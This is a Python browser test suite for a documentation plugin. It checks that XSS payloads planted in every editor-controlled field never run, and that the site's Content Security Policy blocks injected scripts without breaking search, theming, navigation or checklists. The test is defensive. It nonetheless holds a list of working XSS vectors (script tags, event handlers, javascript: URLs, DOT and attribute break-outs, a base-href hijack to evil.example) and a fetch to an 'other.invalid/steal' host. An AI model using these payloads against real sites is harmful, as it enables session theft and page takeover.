"""Hostile content in the browser: nothing an editor writes runs, and the CSP costs nothing.

A playbook is built (not strict: the checker rightly reports what it drops) whose every
editor-controlled field carries one of :data:`PAYLOADS`: script tags, event handlers,
``javascript:`` and ``data:`` URLs, Graphviz HTML labels, DOT syntax, a trailing
backslash, SVG, title and attribute break-outs, Markdown attribute lists. Each payload
calls ``alert("jd-<n>")``. Then:

* every built page is scanned: no script but the theme's, no event handler attribute, no
  URL with a scheme other than http(s) and mailto, exactly one CSP meta tag;
* every page is opened in Chromium: no dialog opens, no CSP violation is reported (so the
  sanitiser, not only the CSP, kept the payloads out), no page error;
* searching for the payloads' words opens nothing either.

On the sample playbook, served with ``site_url`` so instant navigation is on, search, the
palette toggle, instant navigation and ticking a checklist work with no CSP violation, and
a checklist record that cannot be read is set aside under a quarantine key, not
overwritten (the storage format is described at the top of checklist-storage.js).
"""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlparse

import pytest
import yaml
from bs4 import BeautifulSoup

from conftest import ROOT, StaticServer, copy_sample, run_mkdocs_build

pytestmark = pytest.mark.browser

PAYLOADS = [
    '<script>alert("{t}")</script>',
    '<img src=x onerror=alert("{t}")>',
    '<svg onload=alert("{t}")><script>alert("{t}")</script></svg>',
    'javascript:alert("{t}")',
    '[click](javascript:alert("{t}"))',
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="data:text/html,<script>alert(\'{t}\')</script>">d</a>',
    '<<b>{t}</b><img src="x" onerror="alert(1)"/>>',  # a Graphviz HTML-like label
    '"]; pwn [label="{t}" URL="javascript:alert(1)"]; x [label="',  # DOT syntax
    "{t} ends in a backslash \\",
    '</title><script>alert("{t}")</script>',
    '"><svg/onload=alert("{t}")>',
    "'><img src=x onerror=alert('{t}')>",
    '&lt;script&gt;alert("{t}")&lt;/script&gt;',
    '{t} text\n{{: onclick="alert(\'{t}\')" }}',
    '<iframe srcdoc="<script>alert(\'{t}\')</script>"></iframe>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'{t}\')">',
    '<base href="https://evil.example/"><link rel=stylesheet href=https://evil.example/x.css>',
    '<math><mtext><a xlink:href="javascript:alert(\'{t}\')">m</a></mtext></math>',
    '<a href="jav&#x09;ascript:alert(\'{t}\')">tab</a>',
    "{{{{ config }}}}{{% raw %}}",
    '<form action="javascript:alert(\'{t}\')"><button>go</button></form>',
    '<details open ontoggle=alert("{t}")><summary>s</summary></details>',
    '<a href="https://ok.example/" onclick="alert(\'{t}\')">ok</a>',
]
"""Each is formatted with ``t`` = ``jd-<n>``, the text its alert would show."""


def payload(n: int) -> str:
    return PAYLOADS[n % len(PAYLOADS)].format(t=f"jd-{n}")


def line(n: int) -> str:
    """The payload on one line, for fields that are one line of text."""
    return " ".join(payload(n).split())


def hostile_files() -> dict[str, str]:
    """A playbook where every field an editor controls carries a payload."""
    files: dict[str, str] = {}
    owners: dict[str, Any] = {}
    for k in range(len(PAYLOADS)):
        owners[f"o{k}"] = {"name": f"Owner {line(k)}", "person": line(k), "team": line(k),
                           "email": "sales@example.com" if k % 2 else f"{line(k)}@x.example",
                           "chat": "https://chat.example/c" if k % 2 else line(k)}
    files["owners.yml"] = yaml.safe_dump(owners, allow_unicode=True, sort_keys=False)
    for k in range(len(PAYLOADS)):
        p, one = payload(k), line(k)
        journey = {
            "title": f"J{k} {one}", "system": "marketing" if k % 2 else "operations",
            "owner": f"o{k}", "product": one, "segment": one, "summary": p,
            "steps": [
                {"id": "in", "type": "start", "title": one, "stage": "know" if k % 2 else "buy",
                 "touchpoint": one, "notes": p, "automation": [one],
                 "customer": {"motivation": one, "concerns": [one]}, "next": "ask"},
                {"id": "ask", "type": "decision", "title": f"{one}?",
                 "stage": "know" if k % 2 else "buy",
                 "branches": [{"label": one, "next": "do"}, {"label": f"no {one}",
                                                              "next": "out"}]},
                {"id": "do", "title": one, "stage": "like" if k % 2 else "repeat",
                 "critical": True, "owner": f"o{k}", "sop": f"s{k}",
                 "metrics": [{"name": one, "target": one}], "next": "out"},
                {"id": "out", "type": "end", "title": one,
                 "stage": "like" if k % 2 else "repeat"},
            ],
        }
        files[f"journeys/j{k}.yml"] = yaml.safe_dump(journey, allow_unicode=True,
                                                     sort_keys=False)
        front = {"owner": f"o{k}", "title": f"S{k} {one}", "description": one,
                 "subtitle": one, "tools": [one], "tags": [one], "status": one, "icon": one,
                 "revision_date": one}
        body = (f"# {one}\n\n{p}\n\nAsk [[owner:o{k}|{one}]] and see [[sop:s{k}]].\n\n"
                f"## {one}\n\n- [ ] {one}\n- [ ] Second {one}\n")
        files[f"sops/s{k}.md"] = (f"---\n{yaml.safe_dump(front, allow_unicode=True)}---\n"
                                  + body)
    files["index.md"] = ("---\ndescription: '\"><script>alert(\"jd-index\")</script>'\n---\n"
                         "# Home <script>alert('jd-home')</script>\n\n"
                         "<!-- journeydocs:hourglass -->\n\n"
                         + "\n\n".join(payload(k) for k in range(len(PAYLOADS))) + "\n")
    return files


def write_project(project: Path, files: dict[str, str], site_url: str) -> None:
    content = project / "content"
    for name, text in files.items():
        path = content / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    stages = [{"id": "know", "label": line(0)}, {"id": "like", "label": line(10)},
              "trust", "try", {"id": "buy", "label": line(11)},
              {"id": "repeat", "label": line(7)}, "refer"]
    config = {
        "site_name": "Hostile playbook", "site_url": site_url, "docs_dir": "content",
        "theme": {"name": "material", "custom_dir": str(ROOT / "theme"), "font": False,
                  "features": ["navigation.instant", "search.suggest"]},
        "plugins": ["search", {"journeydocs": {"stages": stages, "today": "2026-11-22"}}],
        "validation": {"omitted_files": "info"},
    }
    (project / "mkdocs.yml").write_text(yaml.safe_dump(config, allow_unicode=True),
                                        encoding="utf-8")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[StaticServer, Path,
                                                                          str]]:
    project = tmp_path_factory.mktemp("hostile")
    site = project / "site"
    site.mkdir()
    with StaticServer(site) as server:
        write_project(project, hostile_files(), server.url)
        result = run_mkdocs_build(project)
        assert result.returncode == 0, result.output
        assert "Traceback" not in result.output
        yield server, site, result.output


def pages(site: Path) -> list[str]:
    return sorted(p.relative_to(site).as_posix() for p in site.rglob("*.html"))


SAFE_SCHEMES = {"http", "https", "mailto"}
URL_ATTRS = {"href", "src", "xlink:href", "action", "formaction", "srcset", "data", "poster",
             "background", "ping"}


def test_the_checker_reported_what_it_removed(hostile: tuple[StaticServer, Path, str]) -> None:
    _, _, output = hostile
    assert re.search(r"WARNING\s+-\s+journeydocs: content/sops/s0\.md:\d+:\d+: <script> is "
                     r"not allowed", output)
    assert re.search(r"content/journeys/j4\.yml:\d+:\d+: summary: link to 'javascript:"
                     r"alert\(' is refused", output)  # Markdown reads "jd-4" as the title
    # the home page holding the hourglass is cleaned, so it is reported too, at its lines
    assert re.search(r"WARNING\s+-\s+journeydocs: content/index\.md:4:\d+: <script> is not "
                     r"allowed", output)
    assert "index.md:6:" not in output  # the hourglass marker itself is no finding


def test_no_page_holds_a_foreign_script_handler_or_url(
        hostile: tuple[StaticServer, Path, str]) -> None:
    _, site, _ = hostile
    from journeydocs.safety import csp

    checked = 0
    for rel in pages(site):
        html = (site / rel).read_text(encoding="utf-8")
        soup = BeautifulSoup(html, "html.parser")
        policies = soup.find_all("meta", attrs={"http-equiv": "Content-Security-Policy"})
        assert len(policies) == 1, rel
        allowed = set(re.findall(r"'sha256-[^']+'", policies[0]["content"]))
        for script in soup.find_all("script"):
            if script.get("src"):
                assert not urlparse(script["src"]).netloc, (rel, script["src"])
            elif script.get("type") != "application/json":
                assert csp.script_hash(script.string or "") in allowed, (rel, script)
                assert "jd-" not in (script.string or ""), (rel, script)
        for tag in soup.find_all(True):
            for name, value in tag.attrs.items():
                assert not name.lower().startswith("on"), (rel, tag.name, name)
                if name.lower() in URL_ATTRS:
                    text = value if isinstance(value, str) else " ".join(value)
                    scheme = re.match(r"\s*([a-zA-Z][a-zA-Z0-9+.-]*):", text)
                    assert scheme is None or scheme.group(1).lower() in SAFE_SCHEMES or (
                        tag.name == "img" and scheme.group(1).lower() == "data"
                        and "jd-" not in text), (rel, tag.name, name, text)
            assert tag.name not in ("iframe", "object", "embed", "base", "math"), (rel, tag)
            if tag.name == "meta":
                assert tag.get("http-equiv", "").lower() in ("", "content-security-policy")
        checked += 1
    assert checked > 3 * len(PAYLOADS)


def _watch(page: Any) -> dict[str, list[str]]:
    seen: dict[str, list[str]] = {"dialogs": [], "errors": [], "refused": []}

    def on_dialog(dialog: Any) -> None:
        seen["dialogs"].append(dialog.message)
        dialog.dismiss()

    page.on("dialog", on_dialog)
    page.on("pageerror", lambda e: seen["errors"].append(str(e)))
    page.on("console", lambda m: seen["refused"].append(m.text)
            if "Content Security Policy" in m.text or "Refused to" in m.text else None)
    return seen


VIOLATIONS = """
window.__jdViolations = [];
document.addEventListener("securitypolicyviolation", (e) => window.__jdViolations.push(
  `${e.effectiveDirective} ${e.blockedURI} ${e.sample}`));
"""


def test_no_payload_runs_on_any_page(browser: Any,
                                     hostile: tuple[StaticServer, Path, str]) -> None:
    server, site, _ = hostile
    context = browser.new_context()
    context.add_init_script(VIOLATIONS)
    page = context.new_page()
    seen = _watch(page)
    for rel in pages(site):
        url = server.url + rel.removesuffix("index.html")
        page.goto(url)
        # things payloads wait for: hovering a link, a node of the map, a summary
        for selector in ("article a", "svg.jd-map a", "details"):
            element = page.locator(selector).locator("visible=true").first
            if element.count():
                element.hover(timeout=2000)
        violations = page.evaluate("window.__jdViolations")
        assert violations == [], (rel, violations)
        live = page.evaluate("""() => [...document.querySelectorAll('*')].flatMap(el =>
            [...el.attributes].filter(a => /^on/i.test(a.name)).map(a => el.tagName + ' ' +
            a.name))""")
        assert live == [], (rel, live)
    page.wait_for_timeout(300)
    assert seen["dialogs"] == [], seen["dialogs"]
    assert seen["refused"] == [], seen["refused"]
    assert seen["errors"] == [], seen["errors"]
    context.close()


def test_searching_the_payloads_runs_nothing(browser: Any,
                                              hostile: tuple[StaticServer, Path, str]) -> None:
    server, _, _ = hostile
    context = browser.new_context()
    context.add_init_script(VIOLATIONS)
    page = context.new_page()
    seen = _watch(page)
    page.goto(server.url)
    found = 0
    for query in ("alert", "script", "onerror", "svg", "javascript", "owner"):
        page.click("input.md-search__input")
        page.keyboard.press("Control+A")
        page.keyboard.press("Backspace")
        page.keyboard.type(query)
        page.keyboard.press("End")
        page.wait_for_function("() => /\\d|No matching/.test(document.querySelector("
                               "'.md-search-result__meta').textContent)", timeout=15000)
        page.wait_for_timeout(200)
        results = page.locator(".md-search-result__item")
        if results.count():
            results.first.hover()
        found += results.count()
    assert found > 0, "search found none of the payloads' words"
    assert page.evaluate("window.__jdViolations") == []
    assert seen["dialogs"] == [] and seen["errors"] == [] and seen["refused"] == []
    context.close()


# --- the sample playbook: the CSP costs no feature -----------------------------------------


@pytest.fixture(scope="module")
def sample(tmp_path_factory: pytest.TempPathFactory) -> Iterator[StaticServer]:
    project = copy_sample(tmp_path_factory.mktemp("csp") / "project")
    site = project / "site"
    site.mkdir()
    with StaticServer(site) as server:
        config = project / "mkdocs.yml"
        text = re.sub(r"(?m)^site_url:.*\n", "", config.read_text(encoding="utf-8"))
        config.write_text(f"site_url: {server.url}\n{text}", encoding="utf-8")
        result = run_mkdocs_build(project, "--strict")
        assert result.returncode == 0, result.output
        yield server


def test_search_palette_instant_navigation_and_checklists_work_under_the_csp(
        browser: Any, sample: StaticServer) -> None:
    context = browser.new_context()
    context.add_init_script(VIOLATIONS)
    page = context.new_page()
    seen = _watch(page)
    page.goto(sample.url)
    policy = page.locator('meta[http-equiv="Content-Security-Policy"]').get_attribute("content")
    assert "script-src 'self' 'sha256-" in policy and "unsafe-inline" not in policy.split(
        "script-src")[1].split(";")[0]

    # search (a web worker and a fetch of the index, both same-origin)
    page.click("input.md-search__input")
    page.keyboard.type("consultation")
    page.wait_for_selector(".md-search-result__item", timeout=15000)
    page.keyboard.press("Escape")

    # the palette toggle: Material's inline palette script and its stored choice
    scheme = page.evaluate("document.body.dataset.mdColorScheme")
    page.locator("form[data-md-component=palette] label:not([hidden])").first.click()
    page.wait_for_function("(s) => document.body.dataset.mdColorScheme !== s", arg=scheme)
    page.reload()
    assert page.evaluate("document.body.dataset.mdColorScheme") != scheme

    # instant navigation: the page changes without a new document
    page.evaluate("window.__jdSameDocument = true")
    page.locator("nav.md-nav a[href$='sops/']").first.click()
    page.wait_for_url("**/sops/")
    page.locator("article a[href*='consultation-call']").first.click()
    page.wait_for_url("**/sops/consultation-call/")
    assert page.evaluate("window.__jdSameDocument") is True, "instant navigation is off"

    # a checklist: tick an item, reload, still ticked
    page.wait_for_selector("article[data-jd-checklist=ready] .jd-checklist")
    page.locator("li.jd-item").first.click()
    assert page.locator("li.jd-item input").first.is_checked()
    page.reload()
    page.wait_for_selector("article[data-jd-checklist=ready] .jd-checklist")
    assert page.locator("li.jd-item input").first.is_checked()

    assert page.evaluate("window.__jdViolations") == []
    assert seen["refused"] == [] and seen["dialogs"] == [], seen
    assert not [e for e in seen["errors"] if "journeydocs" in e or "Content Security" in e]

    # and the policy is enforced: a script that got in some other way would not run, and
    # nothing would be sent to another host
    ran = page.evaluate("""() => { const s = document.createElement("script");
        s.textContent = "window.__jdInjected = true"; document.body.append(s);
        fetch("http://other.invalid/steal").catch(() => {});
        return window.__jdInjected === true; }""")
    assert ran is False
    page.wait_for_function("window.__jdViolations.length >= 2")
    blocked = page.evaluate("window.__jdViolations")
    assert any(v.startswith("script-src") for v in blocked), blocked
    assert any(v.startswith("connect-src http://other.invalid") for v in blocked), blocked
    context.close()


def test_unreadable_checklist_data_is_set_aside_not_overwritten(
        browser: Any, sample: StaticServer) -> None:
    sop = "consultation-call"
    scope = urlparse(sample.url).path  # "/": the site's root path
    key = f"journeydocs:v1:{scope}:sop:{sop}"
    raw = "{not json, from a browser extension or a bug"
    context = browser.new_context()
    context.add_init_script(VIOLATIONS)
    page = context.new_page()
    page.goto(sample.url)
    page.evaluate("([k, v]) => localStorage.setItem(k, v)", [key, raw])
    page.goto(sample.url + f"sops/{sop}/")
    page.wait_for_selector("article[data-jd-checklist=ready] .jd-checklist")
    assert "could not be read" in page.locator(".jd-checklist__notice").inner_text()
    aside = page.evaluate("(p) => Object.keys(localStorage).filter(k => k.startsWith(p))",
                          f"journeydocs:v1:{scope}:quarantine:{key}:")
    assert len(aside) == 1
    assert page.evaluate("(k) => localStorage.getItem(k)", aside[0]) == raw

    page.locator("li.jd-item").first.click()
    record = json.loads(page.evaluate("(k) => localStorage.getItem(k)", key))
    assert record["v"] == 1 and record["sop"] == sop and record["runs"]
    assert page.evaluate("(k) => localStorage.getItem(k)", aside[0]) == raw
    assert page.evaluate("window.__jdViolations") == []
    context.close()


def test_hostile_fixture_is_complete() -> None:
    """Every payload reaches every kind of field (the list above is what the note reports)."""
    files = hostile_files()
    assert len([f for f in files if f.startswith("journeys/")]) == len(PAYLOADS)
    assert len([f for f in files if f.startswith("sops/")]) == len(PAYLOADS)
    assert shutil.which("dot"), "Graphviz draws the maps the DOT payloads aim at"
